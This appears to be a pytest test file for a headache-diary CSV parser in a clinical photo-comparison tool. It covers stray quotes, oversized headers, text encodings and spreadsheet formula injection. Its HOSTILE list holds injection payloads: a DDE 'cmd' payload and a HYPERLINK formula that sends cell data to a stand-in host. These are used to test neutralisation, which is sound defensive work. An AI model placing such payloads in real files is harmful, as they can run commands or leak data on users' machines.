"""Diary CSV against hostile and unlucky files: stray quotes, huge headers, formulas, encodings.

Every case is built from a real-looking 100-day diary with an exact expectation: which line is
reported, how many days are read, what text comes back.
"""

from __future__ import annotations

import datetime as dt
import subprocess
import sys
import time

import pytest

from photocompare.core.course_figures import DiaryDay, MedicationClass
from photocompare.core.csv_cells import neutralise, restore
from photocompare.core.diary_csv import parse_diary_csv, write_diary_csv
from photocompare.core.errors import CourseError
from photocompare.settings import CourseSettings
from tests.conftest import ROOT

D = dt.date
HEADER = "date,headache,migraine,hours,intensity,medication,medication_class,note"


def diary_lines(days: int = 100) -> list[str]:
    start = D(2024, 1, 1)
    out = [HEADER]
    for i in range(days):
        day = start + dt.timedelta(days=i)
        out.append(f"{day.isoformat()},{'yes' if i % 3 else 'no'},no,,,no,,day {i}")
    return out


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "photocompare", *args], capture_output=True,
                          text=True, timeout=120, cwd=ROOT)


# -- 2. an unbalanced quote -------------------------------------------------------------------


def test_a_stray_quote_is_one_bad_row_and_every_other_day_is_read(tmp_path):
    lines = diary_lines(100)
    lines[11] = '2024-01-11,yes,no,,,no,,"woke up at 4, said "no more'  # line 12, never closed
    path = tmp_path / "diary.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    parsed = parse_diary_csv(path)
    assert [line for line, _ in parsed.bad_rows] == [12]
    assert "quote" in parsed.bad_rows[0][1]
    assert len(parsed.entries) == 99
    assert parsed.entries[-1].date == D(2024, 4, 9) and parsed.entries[-1].note == "day 99"


def test_a_stray_quote_before_a_later_quote_does_not_merge_the_rows_between(tmp_path):
    lines = diary_lines(30)
    lines[5] = '2024-01-05,yes,no,,,no,,"started at work'  # line 6: opens a quote
    lines[8] = '2024-01-08,yes,no,,,no,,"quoted, properly"'  # line 9: a later, closed quote
    path = tmp_path / "diary.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    parsed = parse_diary_csv(path)
    assert [line for line, _ in parsed.bad_rows] == [6]
    assert len(parsed.entries) == 29
    assert {e.date: e.note for e in parsed.entries}[D(2024, 1, 8)] == "quoted, properly"


def test_a_quote_swallowing_more_line_breaks_than_the_bound_is_a_bad_row(tmp_path):
    body = "\n".join(f"more text {i}" for i in range(8))
    text = f'{HEADER}\n2024-01-01,yes,no,,,no,,"note\n{body}"\n2024-01-02,no,no,,,no,,\n'
    path = tmp_path / "d.csv"
    path.write_text(text, encoding="utf-8")
    parsed = parse_diary_csv(path, CourseSettings(max_csv_note_line_breaks=5))
    assert parsed.bad_rows[0][0] == 2 and "quote" in parsed.bad_rows[0][1]
    assert [e.date for e in parsed.entries] == [D(2024, 1, 2)]
    # within the bound, a multi-line note is a note
    parsed = parse_diary_csv(path, CourseSettings(max_csv_note_line_breaks=10))
    assert parsed.ok and parsed.entries[0].note.endswith("more text 7")


@pytest.mark.parametrize("command", ["diary-import", "course"])
def test_cli_reports_the_stray_quote_line_and_imports_nothing_silently(tmp_path, command):
    lines = diary_lines(100)
    lines[11] = '2024-01-11,yes,no,,,no,,"woke up at 4'
    path = tmp_path / "diary.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    if command == "course":
        proc = run_cli("course", "--diary", str(path), "--treatment", "2024-02-01", "--json")
    else:
        library = tmp_path / "lib"
        from photocompare.library.db import Library

        with Library.open(library) as lib:
            lib.add_patient("P-1")
        proc = run_cli("diary", "import", str(path), "--patient", "P-1", "--library", str(library))
    assert proc.returncode == 2, proc.stdout
    assert "diary.csv: line 12: a quote" in proc.stderr
    proc2 = (run_cli("course", "--diary", str(path), "--treatment", "2024-02-01", "--json",
                     "--skip-bad-rows") if command == "course" else
             run_cli("diary", "import", str(path), "--patient", "P-1", "--library",
                     str(tmp_path / "lib"), "--skip-bad-rows"))
    assert proc2.returncode == 0, proc2.stderr
    if command == "diary-import":
        assert "99 days added" in proc2.stdout


# -- 3. very wide header ----------------------------------------------------------------------


def test_a_very_wide_header_is_refused_in_one_line_and_quickly(tmp_path):
    path = tmp_path / "wide.csv"
    header = ",".join(["date", "headache"] + [f"c{i}" for i in range(100_000)])
    path.write_text(header + "\n" + "\n".join(diary_lines(50)[1:]) + "\n", encoding="utf-8")
    t0 = time.perf_counter()
    with pytest.raises(CourseError) as info:
        parse_diary_csv(path)
    assert time.perf_counter() - t0 < 5.0  # was minutes: the work grew with columns x rows
    message = str(info.value)
    assert message.startswith("wide.csv: ") and "100002 columns" in message
    assert "\n" not in message
    # the bound is a setting: a header just inside it is read
    ok = tmp_path / "ok.csv"
    ok.write_text(",".join(["date", "headache"] + [f"c{i}" for i in range(62)])
                  + "\n2024-01-01,yes\n", encoding="utf-8")
    assert len(parse_diary_csv(ok).entries) == 1


# -- 4. formulas ------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "'=already quoted", "''+two", "plain", "'just an apostrophe",
           "- a dash list item"]


def test_neutralise_and_restore_are_exact_inverses():
    for text in [*HOSTILE, "", "'", "\t=tab", "\rcr", "a=b"]:
        cell = neutralise(text)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert restore(cell) == text


def test_diary_export_neutralises_formulas_and_round_trips_exactly(tmp_path):
    entries = [DiaryDay(D(2024, 3, 1) + dt.timedelta(days=i), True, False, 2.0, 5, True,
                        MedicationClass.TRIPTAN, note) for i, note in enumerate(HOSTILE)]
    first = tmp_path / "first.csv"
    write_diary_csv(first, entries)
    import csv

    with open(first, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    parsed = parse_diary_csv(first)
    assert parsed.ok and [e.note for e in parsed.entries] == HOSTILE
    second = tmp_path / "second.csv"
    write_diary_csv(second, parsed.entries)
    assert second.read_bytes() == first.read_bytes()


def test_audit_csv_neutralises_text_cells(tmp_path):
    from photocompare.library.audit import AuditRecord, write_csv

    record = AuditRecord(id=1, at_utc=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), user="=cmd|x",
                         workstation="@ws", action="photo_imported", patient_id=-1,
                         patient_external_id="+MRN-1", photo_id=None,
                         details='{"x": 1}')
    out = tmp_path / "audit.csv"
    write_csv([record], out)
    import csv

    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][2:5] == ["'=cmd|x", "'@ws", "photo_imported"]
    assert rows[1][5] == "-1"  # a number is data, not a formula
    assert rows[1][6] == "'+MRN-1"


# -- 10. encodings ----------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le"])
def test_utf16_diaries_with_a_bom_are_read(tmp_path, encoding):
    text = "\n".join([*diary_lines(20), "2024-01-21,yes,no,,,no,,\"Kopfschmerz, müde – 頭痛\""])
    data = text.encode(encoding)
    if encoding != "utf-16":  # the explicit-endian codecs write no BOM; add the spreadsheet's
        data = "\ufeff".encode(encoding) + data
    path = tmp_path / "unicode.txt"
    path.write_bytes(data)
    parsed = parse_diary_csv(path)
    assert parsed.ok and len(parsed.entries) == 21
    assert parsed.entries[-1].note == "Kopfschmerz, müde – 頭痛"


def test_undefined_windows_1252_bytes_are_warned_with_their_line(tmp_path):
    lines = [ln.encode("cp1252") for ln in diary_lines(10)]
    lines[4] = b"2024-01-04,yes,no,,,no,,Kaffee \x81 m\xfcde"  # line 5: 0x81 is undefined
    path = tmp_path / "old.csv"
    path.write_bytes(b"\r\n".join(lines) + b"\r\n")
    parsed = parse_diary_csv(path)
    assert parsed.ok
    assert [w for w in parsed.warnings if w.startswith("line 5: byte 0x81")]
    assert {e.date: e.note for e in parsed.entries}[D(2024, 1, 4)] == "Kaffee \ufffd müde"
